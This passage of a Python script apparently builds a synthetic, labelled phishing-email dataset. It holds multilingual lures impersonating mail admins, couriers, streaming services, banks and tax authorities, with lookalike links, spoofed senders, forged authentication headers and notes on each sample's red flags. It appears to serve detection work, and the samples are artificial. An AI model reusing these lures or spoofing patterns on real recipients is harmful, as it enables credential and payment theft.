        rdns=None, mailfrom="mlee@pinecrestdentallab.com", spf="pass", dkim="pass",
        dkim_d="pinecrestdentallab.com",
        dkim_sign=("pinecrestdentallab.com", "selector1"), dmarc="pass", dmarc_policy="none",
        msgid=f"SJ0PR11MB{alnum(slug, 4)}{alnum(slug + 'c', 24)}@SJ0PR11MB{alnum(slug, 4)}.namprd11.prod.outlook.com",
        xmailer=OUTLOOK16, body=alt(slug, plain, html))

    # 10 shortener + open redirect
    slug = "email-upgrade-shortener"
    url = "https://t.ly/Mx7qW"
    url2 = ("https://www.google.com/url?q=https%3A%2F%2Fwebmail-upgrade-portal.vercel.app%2F%3Fu%3Dsales%40"
            "studiobellandi.it&sa=D&sntz=1&usg=AOvVaw1kX9" + alnum(slug, 18, upper=False))
    plain = ("Gentile utente sales@studiobellandi.it,\n\n"
             "Stiamo aggiornando tutti gli account di posta elettronica al nuovo server di sicurezza 2024.\n"
             f"Per completare l'aggiornamento del tuo account, clicca qui: {url}\n\n"
             f"Se il link non funziona, usa questo: {url2}\n\n"
             "Gli account non aggiornati entro il 15/03/2024 verranno disattivati.\n\n"
             "Amministratore di sistema\nstudiobellandi.it")
    add(slug, P, "Italian 'mailbox upgrade' lure in the domain admin's name, plain text, with a t.ly shortener and a "
        "Google /url open redirect to a vercel.app page; sent from a compromised Spanish mailbox with a gmail Reply-To",
        site="bellandi", rcpt="sales", frm=("Amministratore studiobellandi.it", "recepcion@hostalmirador.es"),
        reply_to="helpdesk.admin2024@gmail.com",
        subject="Aggiornamento account di posta obbligatorio",
        date=when(2024, 3, 12, 3, 14, 55, 1), ip="213.165.92.40", helo="smtp.hostalmirador.es",
        rdns="smtp.hostalmirador.es", mailfrom="recepcion@hostalmirador.es", spf="pass", dmarc="none",
        msgid=f"{hx(slug, 30)}@hostalmirador.es", xmailer="User-Agent: Horde Application Framework 5",
        body=text(plain))

    # 11 Italian password expiry, weebly
    slug = "scadenza-password-weebly"
    url = "https://posta-studiobellandi-verifica.weebly.com/"
    html = page(row('<p style="font-size:18px;"><b>Avviso di scadenza password</b></p>')
                + row('<p>Gentile <b>m.bellandi@studiobellandi.it</b>,</p><p>La password della tua casella di '
                      'posta scadr&agrave; oggi. Puoi continuare a usare la password attuale confermandola qui '
                      'sotto.</p>' + button(url, "Mantieni la password attuale", "#2b579a")
                      + '<p style="font-size:12px;color:#777;">Servizio Posta Elettronica &ndash; '
                        'studiobellandi.it</p>'))
    plain = f"La password della tua casella di posta scadrà oggi.\nMantieni la password attuale: {url}\n"
    add(slug, P, "Italian password-expiry lure for the recipient's own mail domain, link to a weebly.com site, sender a "
        "throwaway domain unrelated to the recipient",
        site="bellandi", rcpt="m.bellandi", frm=("Servizio Posta studiobellandi.it", "noreply@postaservizi-it.online"),
        subject="La tua password scade oggi - m.bellandi@studiobellandi.it",
        date=when(2023, 10, 19, 9, 30, 12, 2), ip="195.133.40.211", helo="postaservizi-it.online",
        rdns=None, mailfrom="noreply@postaservizi-it.online", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "postaservizi-it.online"), xmailer=PHPMAILER, body=alt(slug, plain, html))

    # 12 Spanish account suspension, 000webhostapp
    slug = "cuenta-suspendida-000webhost"
    url = "https://webmail-vetsantelmo-es.000webhostapp.com/login.php?user=administracion@vetsantelmo.es"
    html = page(row('<p style="font-size:18px;color:#b00;"><b>Aviso de suspensi&oacute;n de cuenta</b></p>')
                + row('<p>Estimado/a usuario/a <b>administracion@vetsantelmo.es</b>:</p>'
                      '<p>Su cuenta de correo ser&aacute; suspendida por no haber completado la verificaci&oacute;n '
                      'anual de seguridad. Para seguir usando su cuenta, verifique sus datos ahora.</p>'
                      + button(url, "Verificar ahora", "#bb0000")
                      + '<p>Atentamente,<br>Administrador de correo &ndash; vetsantelmo.es</p>'))
    plain = f"Su cuenta de correo será suspendida. Verificar ahora: {url}\n"
    add(slug, P, "Spanish 'your mailbox will be suspended' lure in the domain administrator's name, link to a "
        "000webhostapp.com page, SPF softfail from a residential IP",
        site="santelmo", rcpt="administracion", frm=("Administrador vetsantelmo.es", "admin@vetsantelmo-es.com"),
        subject="Aviso final: su cuenta de correo será suspendida",
        date=when(2023, 4, 4, 13, 2, 0, 2), ip="102.89.34.120", helo="DESKTOP-7H2KQ1B", rdns=None,
        mailfrom="admin@vetsantelmo-es.com", spf="softfail", dmarc="none",
        msgid=f"{hx(slug, 8).upper()}-{hx(slug + '1', 4).upper()}-{hx(slug + '2', 4).upper()}@DESKTOP-7H2KQ1B",
        xmailer="X-Mailer: Microsoft Outlook Express 6.00.2900.5512", body=alt(slug, plain, html))

    # 13 unusual sign-in, vercel/github.io
    slug = "unusual-signin-githubio"
    url = "https://secure-owa-login.github.io/auth/?client=amaral.rui@casa-amaral.pt"
    plain = (f"Olá amaral.rui,\n\nDetetámos uma tentativa de início de sessão invulgar na sua conta "
             f"amaral.rui@casa-amaral.pt.\n\nPaís/região: Nigéria\nEndereço IP: 105.112.44.9\nData: 18/04/2024 02:13\n\n"
             f"Se não foi você, proteja a sua conta aqui: {url}\n\nObrigado,\nA equipa de contas de e-mail")
    add(slug, P, "Portuguese 'unusual sign-in detected' lure for the recipient's own mailbox, plain text, link to a "
        "github.io page; sender a lookalike of the recipient domain",
        site="amaral", rcpt="amaral.rui", frm=("Equipa de contas de e-mail", "seguranca@casa-amaral-pt.com"),
        subject="Atividade de início de sessão invulgar", date=when(2024, 4, 18, 2, 40, 7, 1),
        ip="185.246.130.9", helo="casa-amaral-pt.com", rdns="vm9.hostingvps.lt",
        mailfrom="seguranca@casa-amaral-pt.com", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "casa-amaral-pt.com"), xmailer=PHPMAILER, body=text(plain))


def phishing_brands_1():
    # 14 Microsoft 365 password expiry from onmicrosoft tenant
    slug = "m365-password-expires"
    url = "https://login-microsoftonline-auth.pages.dev/common/oauth2/?login_hint=s.nguyen@harbourline.co.uk"
    html = page(
        row('<img src="https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b" '
            'width="108" alt="Microsoft">')
        + row('<p style="font-size:22px;color:#333;">Password expiration notice</p>'
              '<p>The password for your Microsoft 365 account <b>s.nguyen@harbourline.co.uk</b> expires today.</p>'
              '<p>To keep using your current password, select the button below. If you do nothing, your password '
              'will expire and you will be signed out of Outlook, Teams and OneDrive.</p>'
              + button(url, "Keep current password")
              + '<p style="font-size:12px;color:#666;">Thanks,<br>The Microsoft account team</p>')
        + row('<p style="font-size:11px;color:#999;">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>'))
    plain = f"Password expiration notice\n\nThe password for s.nguyen@harbourline.co.uk expires today.\nKeep current password: {url}\n"
    add(slug, P, "Microsoft 365 password-expiry lure sent from a throwaway onmicrosoft.com tenant (passes its own "
        "auth, not Microsoft's brand domain), button to a pages.dev look-alike of login.microsoftonline.com",
        site="harbour", rcpt="s.nguyen", frm=("Microsoft 365", "admin@Ntgr4k.onmicrosoft.com"),
        subject="Your password expires today - s.nguyen@harbourline.co.uk",
        date=when(2024, 6, 11, 10, 5, 44, 0), ip="40.107.22.104",
        helo="EUR05-AM6-obe.outbound.protection.outlook.com",
        rdns="mail-am6eur05on2104.outbound.protection.outlook.com", mailfrom="admin@Ntgr4k.onmicrosoft.com",
        spf="pass", dkim="pass", dkim_d="Ntgr4k.onmicrosoft.com", dkim_sign=("Ntgr4k.onmicrosoft.com", "selector1"),
        dmarc="none", msgid=f"PAXP193MB{alnum(slug, 4)}{alnum(slug + 'z', 24)}@PAXP193MB{alnum(slug, 4)}.EURP193.PROD.OUTLOOK.COM",
        body=alt(slug, plain, html))

    # 15 DHL customs fee
    slug = "dhl-customs-fee"
    url = "https://bit.ly/3Dhl-Zoll7"
    html = page(
        row('<table width="100%" bgcolor="#ffcc00"><tr><td style="padding:14px 30px;font-size:22px;color:#d40511;'
            'font-weight:bold;font-style:italic;">DHL</td></tr></table>', pad="0")
        + row('<p><b>Your shipment is on hold</b></p><p>Dear Customer,</p><p>Your parcel <b>JD014600006281470219</b> '
              'could not be delivered because import duties of <b>GBP 2.99</b> have not been paid.</p>'
              '<table cellpadding="4" style="font-size:13px;"><tr><td>Waybill:</td><td>JD014600006281470219</td></tr>'
              '<tr><td>Status:</td><td style="color:#d40511;">Awaiting customs payment</td></tr>'
              '<tr><td>Amount due:</td><td>&pound;2.99</td></tr></table>'
              '<p>Please pay within 48 hours, otherwise your package will be returned to sender.</p>'
              + button(url, "Pay and schedule delivery", "#d40511")
              + '<p style="font-size:11px;color:#888;">DHL Express (UK) Ltd &copy; 2023. All rights reserved.</p>'))
    plain = f"Your DHL parcel JD014600006281470219 is on hold. Import duty GBP 2.99. Pay: {url}\n"
    add(slug, P, "DHL customs-fee lure (small GBP amount) from a domain unrelated to DHL, button through a bit.ly "
        "shortener; dmarc none, bulk PHPMailer",
        site="okonkwo", rcpt="chidi", frm=("DHL Express", "noreply@dhl-support-uk.info"),
        subject="DHL: Your parcel is waiting for delivery - customs payment required",
        date=when(2023, 3, 22, 17, 1, 29, 0), ip="194.36.191.77", helo="mail.dhl-support-uk.info", rdns=None,
        mailfrom="bounce-4471@dhl-support-uk.info", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "dhl-support-uk.info"), xmailer=PHPMAILER, body=alt(slug, plain, html))

    # 16 La Poste colis
    slug = "laposte-frais-colis"
    url = "https://laposte-suivi-colis.vercel.app/suivi?id=6A21478923051"
    html = page(
        row('<table width="100%" bgcolor="#ffc800"><tr><td style="padding:12px 30px;font-size:20px;color:#003da5;">'
            '<b>La Poste</b> &ndash; Colissimo</td></tr></table>', pad="0")
        + row('<p>Bonjour,</p><p>Votre colis <b>n&deg; 6A21478923051</b> est en attente de livraison. Des frais '
              'de r&eacute;exp&eacute;dition de <b>1,99 &euro;</b> n\'ont pas &eacute;t&eacute; r&eacute;gl&eacute;s.</p>'
              '<p>Merci de programmer une nouvelle livraison avant le 12/12/2023, faute de quoi le colis sera '
              'retourn&eacute; &agrave; l\'exp&eacute;diteur.</p>' + button(url, "Programmer ma livraison", "#003da5")
              + '<p style="font-size:11px;color:#888;">La Poste &ndash; Soci&eacute;t&eacute; Anonyme au capital de '
                '5 364 851 364 euros.</p>'))
    plain = f"Votre colis n° 6A21478923051 est en attente. Frais de 1,99 €. Programmer ma livraison : {url}\n"
    add(slug, P, "French La Poste/Colissimo redelivery-fee lure (1,99 €), from an unrelated .xyz domain, button to a "
        "vercel.app page",
        site="vallonet", rcpt="n.garnier", frm=("La Poste Colissimo", "info@colis-notif.xyz"),
        subject="Votre colis est en attente de livraison - action requise",
        date=when(2023, 12, 9, 19, 22, 10, 1), ip="5.181.156.14", helo="colis-notif.xyz", rdns="vm1435.vps.hosting-provider.ru",
        mailfrom="info@colis-notif.xyz", spf="pass", dmarc="none", msgid=phpmailer_id(slug, "colis-notif.xyz"),
        xmailer=PHPMAILER, body=alt(slug, plain, html))

    # 17 UPS German customs
    slug = "ups-zollgebuehren"
    url = "https://ups-paket-de.web.app/zahlung?ref=1Z9W81E86812345678"
    html = page(
        row('<table width="100%" bgcolor="#351c15"><tr><td style="padding:14px 30px;color:#ffb500;font-size:22px;">'
            '<b>UPS</b></td></tr></table>', pad="0")
        + row('<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p><p>Ihre Sendung <b>1Z9W81E86812345678</b> '
              'befindet sich in unserem Verteilzentrum. Es sind noch Zollgeb&uuml;hren in H&ouml;he von '
              '<b>3,49 EUR</b> offen.</p><p>Bitte begleichen Sie den Betrag, damit die Zustellung erfolgen kann.</p>'
              + button(url, "Jetzt bezahlen", "#ffb500")
              + '<p style="font-size:11px;color:#888;">&copy; 2024 United Parcel Service of America, Inc.</p>'))
    plain = f"Ihre Sendung 1Z9W81E86812345678: Zollgebühren 3,49 EUR offen. Jetzt bezahlen: {url}\n"
    add(slug, P, "German UPS customs-fee lure (3,49 EUR) from a compromised mailbox on an unrelated domain, display "
        "name 'UPS Deutschland', link to a web.app page",
        site="brackwede", rcpt="l.schmitt", frm=("UPS Deutschland", "kontakt@malerbetrieb-voss.de"),
        subject="Ihre UPS Sendung 1Z9W81E86812345678: Zollgebühren ausstehend",
        date=when(2024, 2, 27, 11, 48, 0, 1), ip="81.169.145.97", helo="mo4-p00-ob.smtp.rzone.de",
        rdns="mo4-p00-ob.smtp.rzone.de", mailfrom="kontakt@malerbetrieb-voss.de", spf="pass",
        dkim="pass", dkim_d="malerbetrieb-voss.de", dkim_sign=("malerbetrieb-voss.de", "strato-dkim-0002"),
        dmarc="none", msgid=f"{int(hx(slug, 8), 16)}.{hx(slug + 'x', 6)}@malerbetrieb-voss.de",
        body=alt(slug, plain, html))

    # 18 Netflix payment failed
    slug = "netflix-payment-failed"
    url = "https://netflix-account-billing.glitch.me/update?ref=NF8831"
    html = page(
        row('<p style="font-size:28px;color:#e50914;font-weight:bold;">NETFLIX</p>')
        + row('<p style="font-size:22px;"><b>Your membership is on hold</b></p><p>Hi,</p><p>We were unable to '
              'process your payment for the next billing cycle. To avoid any interruption, please update your '
              'payment details.</p>' + button(url, "UPDATE ACCOUNT", "#e50914")
              + '<p>We\'re here to help if you need it. Visit the Help Center for more info.</p>'
                '<p>&ndash;The Netflix team</p>')
        + row('<p style="font-size:11px;color:#999;">Netflix International B.V.</p>'), bg="#000000")
    plain = f"Your membership is on hold. Update your payment details: {url}\n-The Netflix team"
    add(slug, P, "Netflix 'payment failed, membership on hold' lure from a lookalike domain, link to glitch.me; "
        "no DKIM, DMARC none",
        site="okonkwo", rcpt="adaeze", frm=("Netflix", "info@netflix-membership-center.com"),
        subject="Your Netflix membership is on hold", date=when(2023, 7, 3, 20, 15, 3, 0),
        ip="94.156.64.202", helo="netflix-membership-center.com", rdns=None,
        mailfrom="info@netflix-membership-center.com", spf="pass", dmarc="none",
        msgid=f"{hx(slug, 24)}@netflix-membership-center.com", body=alt(slug, plain, html))

    # 19 Spotify Portuguese
    slug = "spotify-pagamento-pt"
    url = "https://spotify-premium-pt.wixsite.com/conta"
    html = page(row('<p style="font-size:24px;color:#1db954;"><b>Spotify</b></p>')
                + row('<p><b>Não conseguimos processar o seu pagamento</b></p><p>Olá,</p><p>O pagamento da sua '
                      'subscrição Premium falhou. A sua conta será alterada para o plano Free dentro de 24 horas.</p>'
                      '<p>Atualize os seus dados de pagamento para continuar a ouvir sem anúncios.</p>'
                      + button(url, "ATUALIZAR PAGAMENTO", "#1db954") + '<p>Equipa Spotify</p>'))
    plain = f"O pagamento da sua subscrição Premium falhou. Atualizar pagamento: {url}\n"
    add(slug, P, "Portuguese Spotify Premium payment-failure lure sent from a hotmail account, link to a wixsite.com page",
        site="amaral", rcpt="ines", frm=("Spotify", "spotify.premium.pt.service@hotmail.com"),
        subject="O seu pagamento falhou - atualize os seus dados", date=when(2023, 5, 16, 12, 9, 41, 1),
        ip="40.92.89.56", helo="EUR02-VI1-obe.outbound.protection.outlook.com",
        rdns="mail-vi1eur02olkn2056.outbound.protection.outlook.com",
        mailfrom="spotify.premium.pt.service@hotmail.com", spf="pass", dkim="pass", dkim_d="hotmail.com",
        dkim_sign=("hotmail.com", "selector1"), dmarc="pass", dmarc_policy="none",
        msgid=f"DB9P189MB{alnum(slug, 4)}{alnum(slug + 'y', 24)}@DB9P189MB{alnum(slug, 4)}.EURP189.PROD.OUTLOOK.COM",
        body=alt(slug, plain, html))

    # 20 Disney+ Spanish
    slug = "disneyplus-suscripcion-es"
    url = "https://disneyplus-renovar.pages.dev/es/cuenta"
    html = page(row('<p style="font-size:26px;color:#ffffff;background:#040714;padding:10px;">Disney+</p>')
                + row('<p>Hola,</p><p>Tu suscripci&oacute;n a Disney+ ha sido <b>suspendida</b> porque no hemos '
                      'podido cobrar tu &uacute;ltimo pago de 8,99 &euro;.</p><p>Actualiza tu m&eacute;todo de pago '
                      'para seguir disfrutando de tus series y pel&iacute;culas favoritas.</p>'
                      + button(url, "ACTUALIZAR MÉTODO DE PAGO", "#0063e5")
                      + '<p>Atentamente,<br>El equipo de Disney+</p>'))
    plain = f"Tu suscripción a Disney+ ha sido suspendida. Actualizar método de pago: {url}\n"
    add(slug, P, "Spanish Disney+ subscription-suspended lure from an unrelated .site domain, button to a pages.dev site",
        site="santelmo", rcpt="lucia", frm=("Disney+", "soporte@dsnyplus-cuenta.site"),
        subject="Tu suscripción ha sido suspendida", date=when(2024, 1, 30, 21, 33, 18, 1),
        ip="103.161.171.45", helo="dsnyplus-cuenta.site", rdns=None, mailfrom="soporte@dsnyplus-cuenta.site",
        spf="pass", dmarc="none", msgid=phpmailer_id(slug, "dsnyplus-cuenta.site"), xmailer=PHPMAILER,
        body=alt(slug, plain, html))

    # 21 Apple ID locked
    slug = "apple-id-locked"
    url = "https://appleid-apple-com-unlock.firebaseapp.com/signin"
    html = page(row('<p style="font-size:24px;text-align:center;">&#63743;</p>')
                + row('<p style="font-size:20px;"><b>Your Apple ID has been locked for security reasons</b></p>'
                      '<p>Dear Customer,</p><p>Your Apple ID was used to sign in to iCloud on a Windows PC. '
                      'Because we were unable to verify this sign-in, your Apple ID has been temporarily locked.</p>'
                      '<table cellpadding="4" style="font-size:13px;"><tr><td>Date and time:</td><td>'
                      'November 4, 2023, 4:12 AM PDT</td></tr><tr><td>Operating system:</td><td>Windows 10</td></tr>'
                      '<tr><td>Location:</td><td>Moscow, Russia</td></tr></table>'
                      '<p>To unlock your account, verify your information within 24 hours.</p>'
                      + button(url, "Verify Now", "#0071e3")
                      + '<p>Apple Support</p><p style="font-size:11px;color:#888;">Copyright &copy; 2023 Apple '
                        'Distribution International Ltd. All rights reserved.</p>'))
    plain = f"Your Apple ID has been locked. Verify now: {url}\nApple Support"
    add(slug, P, "Apple ID locked lure, From 'Apple Support' on an unrelated domain with a Reply-To elsewhere, link to "
        "a firebaseapp.com page",
        site="harbour", rcpt="t.fletcher", frm=("Apple Support", "support@id-secure-services.net"),
        reply_to="noreply@appleid-case.info",
        subject="[Case ID: 8831-0217] Your Apple ID has been locked", date=when(2023, 11, 4, 12, 20, 11, 0),
        ip="179.43.128.9", helo="id-secure-services.net", rdns=None, mailfrom="support@id-secure-services.net",
        spf="neutral", dmarc="none", msgid=phpmailer_id(slug, "id-secure-services.net"), xmailer=PHPMAILER,
        body=alt(slug, plain, html))

    # 22 PayPal German
    slug = "paypal-konto-eingeschraenkt"
    url = "https://www.paypal.de.konto-sicherheit-check.com/de/signin?cmd=_verify"
    html = page(row('<p style="font-size:24px;color:#003087;"><b>PayPal</b></p>')
                + row('<p>Hallo,</p><p>wir haben ungew&ouml;hnliche Aktivit&auml;ten in Ihrem PayPal-Konto '
                      'festgestellt. Aus Sicherheitsgr&uuml;nden haben wir Ihr Konto vor&uuml;bergehend '
                      '<b>eingeschr&auml;nkt</b>.</p><p>Bitte best&auml;tigen Sie Ihre Identit&auml;t, um alle '
                      'Funktionen wieder freizuschalten.</p>' + button(url, "Jetzt bestätigen", "#0070ba")
                      + '<p>Vielen Dank<br>Ihr PayPal-Team</p><p style="font-size:11px;color:#888;">PayPal (Europe) '
                        'S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxemburg</p>'))
    plain = f"Ihr PayPal-Konto wurde eingeschränkt. Jetzt bestätigen: {url}\n"
    add(slug, P, "German PayPal 'account limited' lure; link host begins with www.paypal.de. but is a subdomain of "
        "konto-sicherheit-check.com; From spoofs service@paypal.de and DMARC fails (p=reject)",
        site="brackwede", rcpt="a.wagner", frm=("PayPal", "service@paypal.de"),
        subject="Ihr Konto wurde vorübergehend eingeschränkt", date=when(2024, 7, 8, 6, 2, 50, 2),
        ip="89.248.165.52", helo="mail.konto-sicherheit-check.com", rdns=None,
        mailfrom="info@konto-sicherheit-check.com", spf="pass", dmarc="fail", dmarc_policy="reject",
        msgid=f"{hx(slug, 26)}@konto-sicherheit-check.com", body=alt(slug, plain, html))

    # 23 Amazon Italian Prime payment
    slug = "amazon-prime-pagamento-it"
    url = "https://amazon-it-account.netlify.app/ap/signin?openid=prime"
    html = page(row('<p style="font-size:24px;"><b>amazon</b>.it</p>')
                + row('<p>Gentile cliente,</p><p>non siamo riusciti ad addebitare l\'importo di <b>4,99 &euro;</b> '
                      'per il rinnovo del tuo abbonamento Amazon Prime. La carta associata al tuo account potrebbe '
                      'essere scaduta.</p><p>Per continuare a usufruire dei vantaggi Prime, aggiorna il metodo di '
                      'pagamento entro 24 ore.</p>' + button(url, "Aggiorna metodo di pagamento", "#ff9900")
                      + '<p>Grazie,<br>Servizio Clienti Amazon</p>'))
    plain = f"Non siamo riusciti ad addebitare 4,99 € per Amazon Prime. Aggiorna: {url}\n"
    add(slug, P, "Italian Amazon Prime renewal-payment lure, sender a free-mail Gmail account with 'Amazon.it' "
        "display name, link to a netlify.app page",
        site="bellandi", rcpt="giulia.r", frm=("Amazon.it", "servizioclienti.amz.it@gmail.com"),
        subject="Problema con il pagamento del tuo abbonamento Prime", date=when(2023, 8, 2, 15, 40, 36, 2),
        ip="209.85.221.49", helo="mail-wr1-f49.google.com", rdns="mail-wr1-f49.google.com",
        mailfrom="servizioclienti.amz.it@gmail.com", spf="pass", dkim="pass", dkim_d="gmail.com",
        dkim_sign=("gmail.com", "20230601"), dmarc="pass", dmarc_policy="none",
        msgid=f"CAH{b64ish(slug, 30)}-{b64ish(slug + 'g', 14)}@mail.gmail.com", body=alt(slug, plain, html))

    # 24 US bank (Chase)
    slug = "chase-account-suspended"
    url = "https://chase-secure-verify.000webhostapp.com/online/logon.php"
    plain = (f"Dear Chase Customer,\n\nWe noticed unusual activity on your Chase debit card ending in 4471 and have "
             f"temporarily suspended your online banking access.\n\nTo restore access, please confirm your identity:\n"
             f"{url}\n\nIf you do not verify within 24 hours, your account will remain locked.\n\n"
             f"Sincerely,\nChase Online Security\nJPMorgan Chase Bank, N.A. Member FDIC")
    add(slug, P, "Chase 'online banking suspended' plain-text lure, spoofed From chase.com with DMARC fail, sent from a "
        "VPS; link to 000webhostapp",
        site="hollister", rcpt="payroll", frm=("Chase Online", "alerts@chase.com"),
        subject="Important: Your online banking access has been suspended", date=when(2023, 2, 15, 3, 17, 40, -5),
        ip="172.245.81.66", helo="host.securemailnet.cc", rdns=None, mailfrom="root@host.securemailnet.cc",
        spf="none", dmarc="fail", dmarc_policy="reject", msgid=f"{hx(slug, 20)}@host.securemailnet.cc",
        body=text(plain))

    # 25 French bank: Crédit Agricole
    slug = "credit-agricole-securipass"
    url = "https://ca-securipass-activation.web.app/particulier/acceder"
    html = page(row('<p style="font-size:20px;color:#006a4e;"><b>Cr&eacute;dit Agricole</b></p>')
                + row('<p>Cher(e) client(e),</p><p>Dans le cadre de la directive europ&eacute;enne DSP2, votre '
                      'service <b>S&eacute;curiPass</b> doit &ecirc;tre r&eacute;activ&eacute; avant le '
                      '<b>25/04/2024</b>. Sans cette mise &agrave; jour, vos op&eacute;rations par carte et vos '
                      'virements seront bloqu&eacute;s.</p>' + button(url, "Réactiver SécuriPass", "#006a4e")
                      + '<p>Nous vous remercions de votre confiance.<br>Votre conseiller Cr&eacute;dit Agricole</p>'))
    plain = f"Votre service SécuriPass doit être réactivé avant le 25/04/2024. Réactiver : {url}\n"
    add(slug, P, "French Crédit Agricole 'SécuriPass must be reactivated (DSP2)' lure from an unrelated .fun domain, "
        "button to a web.app page",
        site="vallonet", rcpt="m.lemaire", frm=("Crédit Agricole", "ne-pas-repondre@ca-informations.fun"),
        subject="Réactivation obligatoire de votre SécuriPass", date=when(2024, 4, 22, 9, 55, 1, 2),
        ip="45.88.90.14", helo="ca-informations.fun", rdns=None, mailfrom="ne-pas-repondre@ca-informations.fun",
        spf="pass", dmarc="none", msgid=phpmailer_id(slug, "ca-informations.fun"), xmailer=PHPMAILER,
        body=alt(slug, plain, html))

    # 26 German bank: Sparkasse pushTAN
    slug = "sparkasse-pushtan"
    url = "https://sparkasse-pushtan-aktualisierung.de-konto.workers.dev/"
    html = page(row('<table width="100%" bgcolor="#ff0000"><tr><td style="padding:12px 30px;color:#fff;'
                    'font-size:20px;"><b>Sparkasse</b></td></tr></table>', pad="0")
                + row('<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p><p>aufgrund neuer Sicherheitsrichtlinien '
                      'muss Ihr <b>pushTAN-Verfahren</b> bis zum 30.09.2023 aktualisiert werden. Andernfalls wird '
                      'Ihr Online-Banking-Zugang aus Sicherheitsgr&uuml;nden gesperrt.</p>'
                      + button(url, "Jetzt aktualisieren", "#ff0000")
                      + '<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihre Sparkasse</p>'))
    plain = f"Ihr pushTAN-Verfahren muss aktualisiert werden. Jetzt aktualisieren: {url}\n"
    add(slug, P, "German Sparkasse pushTAN-update lure, From spoofs a Sparkasse address (dmarc fail), link to a "
        "workers.dev page",
        site="brackwede", rcpt="k.neumann", frm=("Sparkasse", "service@sparkasse.de"),
        subject="Wichtig: Aktualisierung Ihres pushTAN-Verfahrens", date=when(2023, 9, 25, 7, 12, 0, 2),
        ip="87.120.84.17", helo="vps-87-120-84-17.bg", rdns=None, mailfrom="info@vps-87-120-84-17.bg",
        spf="none", dmarc="fail", dmarc_policy="reject", msgid=f"{hx(slug, 22)}@vps-87-120-84-17.bg",
        body=alt(slug, plain, html))


def phishing_brands_2():
    # 27 BBVA Spanish
    slug = "bbva-acceso-bloqueado"
    url = "https://cutt.ly/bbva-verificacion-es"
    plain = (f"BBVA\n\nEstimado cliente:\n\nHemos detectado un acceso no autorizado a su banca online desde un "
             f"dispositivo no reconocido. Por su seguridad, su acceso ha sido bloqueado temporalmente.\n\n"
             f"Para desbloquearlo, verifique su identidad en el siguiente enlace:\n{url}\n\n"
             f"Si no realiza la verificación en 24 horas, deberá acudir a su oficina.\n\nAtentamente,\nBBVA Seguridad")
    add(slug, P, "Spanish BBVA 'access blocked' plain-text lure, display name BBVA on an unrelated .es web-hosting "
        "domain, link through a cutt.ly shortener",
        site="santelmo", rcpt="contabilidad", frm=("BBVA Seguridad", "notificaciones@reformasgarcia-sl.es"),
        subject="Su acceso a la banca online ha sido bloqueado", date=when(2023, 10, 10, 8, 1, 33, 2),
        ip="217.76.150.88", helo="smtp.reformasgarcia-sl.es", rdns="smtp.reformasgarcia-sl.es",
        mailfrom="notificaciones@reformasgarcia-sl.es", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "reformasgarcia-sl.es"), xmailer=PHPMAILER, body=text(plain))

    # 28 IRS refund
    slug = "irs-tax-refund"
    url = "https://irs-gov-refund-status.firebaseapp.com/claim?case=IRS-2024-88314"
    html = page(row('<p style="font-size:22px;color:#00599c;"><b>IRS</b> Internal Revenue Service</p>')
                + row('<p>Dear Taxpayer,</p><p>After the last annual calculation of your fiscal activity we have '
                      'determined that you are eligible to receive a tax refund of <b>$1,284.50</b>.</p>'
                      '<p>Please submit the tax refund request and allow us 3-5 business days to process it.</p>'
                      + button(url, "Claim Your Refund", "#00599c")
                      + '<p>Note: A refund can be delayed for a variety of reasons, for example submitting invalid '
                        'records or applying after the deadline.</p><p>Internal Revenue Service<br>'
                        'U.S. Department of the Treasury</p>'))
    plain = f"You are eligible to receive a tax refund of $1,284.50. Claim: {url}\n"
    add(slug, P, "IRS tax-refund lure ($1,284.50), From spoofs irs.gov (dmarc fail, p=reject), link to firebaseapp.com",
        site="hollister", rcpt="dgreene", frm=("Internal Revenue Service", "refunds@irs.gov"),
        subject="Tax Refund Notification - Action Required", date=when(2024, 3, 5, 10, 21, 9, -5),
        ip="38.180.91.23", helo="mx.newsletters-online.click", rdns=None,
        mailfrom="bounce@newsletters-online.click", spf="pass", dmarc="fail", dmarc_policy="reject",
        msgid=f"{hx(slug, 30)}@newsletters-online.click", body=alt(slug, plain, html))

    # 29 HMRC
    slug = "hmrc-tax-rebate"
    url = "https://hmrc-gov-uk-rebate.pages.dev/?ref=GB-2023-551902"
    plain = (f"HM Revenue & Customs\n\nDear Applicant,\n\nWe have reviewed your tax calculation for the year 2022/23 "
             f"and you are entitled to a tax rebate of £486.20.\n\nTo receive your rebate, please complete the "
             f"online form:\n{url}\n\nReference: GB-2023-551902\n\nPlease allow 3-5 working days for the funds to "
             f"reach your account.\n\nHM Revenue & Customs")
    add(slug, P, "HMRC tax-rebate lure (£486.20), plain text from a free Yahoo account named 'HMRC', link to pages.dev",
        site="harbour", rcpt="r.whitfield", frm=("HM Revenue & Customs", "hmrc.rebate.office@yahoo.com"),
        subject="Tax Rebate Notification", date=when(2023, 8, 30, 14, 7, 22, 0), ip="98.137.68.30",
        helo="sonic306-20.consmr.mail.gq1.yahoo.com", rdns="sonic306-20.consmr.mail.gq1.yahoo.com",
        mailfrom="hmrc.rebate.office@yahoo.com", spf="pass", dkim="pass", dkim_d="yahoo.com",
        dkim_sign=("yahoo.com", "s2048"), dmarc="pass", dmarc_policy="reject",
        msgid=f"{int(hx(slug, 12), 16)}.{int(hx(slug + 'y', 6), 16)}.1693404442000@mail.yahoo.com",
        xmailer="X-Mailer: WebService/1.1.21718 YMailNorrin", body=text(plain))

    # 30 impots.gouv.fr
    slug = "impots-remboursement"
    url = "https://impots-gouv-remboursement.netlify.app/espace-particulier/"
    html = page(row('<p style="font-size:18px;color:#000091;"><b>R&Eacute;PUBLIQUE FRAN&Ccedil;AISE</b><br>'
                    '<span style="font-size:14px;">Direction g&eacute;n&eacute;rale des Finances publiques</span></p>')
                + row('<p>Madame, Monsieur,</p><p>Apr&egrave;s les derniers calculs annuels de votre activit&eacute; '
                      'fiscale, nous avons d&eacute;termin&eacute; que vous &ecirc;tes &eacute;ligible &agrave; un '
                      'remboursement d\'imp&ocirc;t d\'un montant de <b>327,15 &euro;</b>.</p><p>Veuillez remplir '
